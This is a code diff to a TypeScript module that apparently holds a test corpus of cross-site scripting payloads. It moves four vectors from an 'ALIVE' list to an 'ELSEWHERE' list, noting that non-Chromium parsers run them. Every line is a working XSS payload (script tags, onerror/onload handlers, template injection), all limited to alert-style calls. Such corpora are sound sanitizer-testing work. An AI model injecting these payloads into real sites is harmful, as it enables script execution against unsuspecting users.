@@ -10,7 +10,6 @@ export const ALIVE: readonly string[] = [
   '<SCRIPT>alert(1)</SCRIPT >',
   '<script/x>alert(1)</script>',
   '<script\n>alert(1)</script>',
-  '<script>\u2028alert(1)</script>',
   '<script src="data:text/javascript,alert(1)"></script>',
   '<script>top["al"+"ert"](1)</script>',
   '<script>eval(atob("YWxlcnQoMSk="))</script>',
@@ -30,15 +29,12 @@ export const ALIVE: readonly string[] = [
   '<img src=x onerror="confirm(1)">',
   '<img src=x onerror="prompt(1)">',
   '<img src=x onerror=print()>',
-  '<img/src=x/onerror=alert(1)>',
   '<img src=x oNeRrOr=alert(1)>',
   '<img src=x onerror=&#97;lert(1)>',
   '<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>',
   '<img src=x onerror="window[\'alert\'](1)">',
-  '<img src="x` `<script>alert(1)</script>"` `onerror=alert(1)>',
   '<image src=x onerror=alert(1)>',
   '<svg onload=alert(1)>',
-  '<svg/onload=alert(1)//',
   '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
   '<svg><set onbegin=alert(1) attributeName=x>',
   '<svg><image href=x onerror=alert(1)>',
@@ -95,6 +91,11 @@ export const ELSEWHERE: readonly string[] = [
   '{{constructor.constructor("alert(1)")()}}',
   '<div style="background:url(javascript:alert(1))">x</div>',
   '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
+  // Other parsers than Chromium's run these
+  '<script>\u2028alert(1)</script>',
+  '<img/src=x/onerror=alert(1)>',
+  '<img src="x` `<script>alert(1)</script>"` `onerror=alert(1)>',
+  '<svg/onload=alert(1)//',
 ];
 
 export const PAYLOADS: readonly string[] = [...ALIVE, ...ELSEWHERE];
